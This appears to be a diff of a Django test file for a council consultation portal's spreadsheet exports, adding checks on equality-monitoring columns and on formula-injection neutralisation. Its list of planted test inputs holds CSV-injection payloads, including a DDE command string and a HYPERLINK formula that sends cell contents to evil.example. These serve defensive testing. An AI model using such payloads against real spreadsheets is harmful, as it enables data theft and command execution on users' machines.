@@ -29,7 +29,7 @@ from consultations.responses import submit_response
 from consultations.spreadsheets.exports import ExportFilters, ResponsesExport
 from consultations.spreadsheets.imports import ResponseResource, import_responses
 from consultations.spreadsheets.layout import HEADER_ROWS, layout_for
-from portal.spreadsheets import FORMULA_TRIGGERS, neutralise, read_rows, restore
+from portal.spreadsheets import FORMULA_TRIGGERS, neutralise, read_rows, restore, starts_formula
 
 pytestmark = pytest.mark.django_db
 
@@ -98,6 +98,8 @@ def full_answers(page, number, text):
                 "age_band": "35_44",
                 "ward": wards[number % len(wards)],
                 "connection": ["live", "work"][: 1 + number % 2],
+                "sex": ["female", "male"][number % 2],
+                "disability": "no",
                 "postcode_district": "KM1",
             }
     return answers
@@ -179,7 +181,7 @@ def test_each_question_type_gets_its_columns(budget):
     assert by_type["budget_simulator"][0].heading.endswith(f"{spec.lines[0].name} (% change)")
 
     about = [c.kind for c in by_type["about_you"]]
-    assert about[0] == "about" and "about_option" in about  # age, then connection per option
+    assert set(about) == {"about_option"}  # connection per option; age only with personal data
     assert "postcode" not in about  # personal data: only on request, for permitted staff
 
 
@@ -187,10 +189,22 @@ def test_personal_data_columns_only_when_asked_for(budget):
     plain = layout_for(budget).keys
     personal = layout_for(budget, personal_data=True)
     assert "email" not in plain and not any(k.endswith(":postcode_district") for k in plain)
-    assert [c.key for c in personal.columns if c.personal] == [
+    assert [c.key for c in personal.columns if c.personal and not c.equality] == [
         "email",
         next(k for k in personal.keys if k.endswith(":postcode_district")),
     ]
+
+
+def test_equality_answers_are_columns_only_with_personal_data(budget):
+    about = next(q.id for q in questions_of(budget).values() if q.type == "about_you")
+    equality = [f"{about}:{part}" for part in ("age_band", "sex", "disability", "ethnicity")]
+    plain = layout_for(budget)
+    assert not set(equality) & set(plain.keys)
+    assert set(equality) <= set(layout_for(budget, personal_data=True).keys)
+    assert set(equality) <= set(layout_for(budget, equality_answers=True).keys)
+    (what, why), *_ = plain.left_out
+    assert what.endswith("About you: Age, Sex, Disability, Ethnic group")
+    assert ["", what, "", why] in plain.dictionary_rows()
 
 
 def test_a_row_holds_each_answer_in_the_council_s_words(answered):
@@ -331,7 +345,19 @@ def _plant(page, words):
         )
 
 
-PLANTED = [*HOSTILE_WORDS, "\t=cmd|' /C calc'!A0", "\r=1+1", "\n@x"]
+PLANTED = [
+    *HOSTILE_WORDS,
+    "\t=cmd|' /C calc'!A0",
+    "\r=1+1",
+    "\n@x",
+    # Full-width, and after spaces: spreadsheets read these as formulas too.
+    '＝HYPERLINK("http://evil.example/?"&A1)',
+    "＋44 20 7946 0000",
+    "－2+3",
+    "＠SUM(1+1)",
+    " =1+1",
+    "\u3000@SUM(A1)",
+]
 
 
 @pytest.fixture
@@ -352,7 +378,7 @@ def test_no_csv_cell_starts_a_formula(planted, personal_data):
     for text in PLANTED:
         assert "'" + text in cells
     for cell in cells:
-        if cell.startswith(FORMULA_TRIGGERS):
+        if starts_formula(cell):
             assert re.fullmatch(r"-\d+(\.\d+)?", cell), cell  # negative numbers only
 
 
@@ -367,7 +393,7 @@ def test_no_xlsx_cell_is_a_formula(planted, personal_data):
             for cell in row:
                 assert cell.data_type != "f", cell.value
                 if isinstance(cell.value, str):
-                    assert not cell.value.startswith(FORMULA_TRIGGERS), cell.value
+                    assert not starts_formula(cell.value), cell.value
                     texts.append(cell.value)
 
     def flat(text):  # XML reads a carriage return back as a line feed
@@ -385,7 +411,7 @@ def test_no_ods_cell_is_a_formula(planted, personal_data):
     assert "table:formula" not in xml
     for row in read_back(content, "ods"):
         for cell in row:
-            if isinstance(cell, str) and cell.startswith(FORMULA_TRIGGERS):
+            if isinstance(cell, str) and starts_formula(cell):
                 pytest.fail(f"{cell!r} would start a formula")
     assert zipfile.ZipFile(io.BytesIO(content)).namelist()[0] == "mimetype"
 
